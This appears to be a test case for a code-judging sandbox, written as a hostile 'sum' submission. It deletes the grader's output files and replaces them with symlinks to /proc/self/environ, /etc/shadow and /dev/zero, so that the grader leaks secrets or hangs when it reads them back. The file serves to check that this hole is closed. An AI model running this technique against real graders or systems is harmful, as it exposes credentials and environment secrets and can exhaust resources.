# exercise: sum
# expect: wrong_answer
# cause: output files were read back by path, following symlinks, with no size cap
import os, sys
a, b = map(int, sys.stdin.read().split())
targets = ["/proc/self/environ", "/etc/shadow", "/dev/zero", "/proc/self/mountinfo"]
for parent in ("..", "../.."):
    try:
        names = os.listdir(parent)
    except OSError:
        continue
    for k in range(64):
        for prefix in ("_out", "_err"):
            path = os.path.join(parent, "%s%d" % (prefix, k))
            try:
                os.unlink(path)
            except OSError:
                pass
            try:
                os.symlink(targets[k % len(targets)], path)
            except OSError:
                pass
print(a - b)
